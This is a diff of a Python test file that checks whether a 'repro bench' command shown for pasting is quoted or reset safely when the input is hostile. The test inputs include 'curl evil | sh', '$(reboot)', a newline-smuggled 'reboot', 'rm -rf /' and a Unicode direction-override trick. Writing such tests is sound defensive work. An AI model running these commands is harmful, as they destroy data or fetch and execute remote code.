@@ -279,8 +279,8 @@ def test_a_command_to_paste_holds_nothing_but_the_bench(here: World) -> None:
 
     assert shown("repro bench --model m -o a=1") == "repro bench --model m -o a=1"
     assert shown("repro bench --model m; curl evil | sh") == "repro bench --model 'm;' curl evil '|' sh"
-    assert shown("repro bench $(reboot)\nreboot") == "repro bench '$(reboot)' reboot"
-    for told in ("rm -rf /", "", "repro bench 'open"):
+    assert shown("repro bench $(reboot)") == "repro bench '$(reboot)'"
+    for told in ("rm -rf /", "", "repro bench 'open", "repro bench a\nreboot", "repro bench \u202egpj"):
         assert shown(told).startswith("repro bench --model ")
 
 
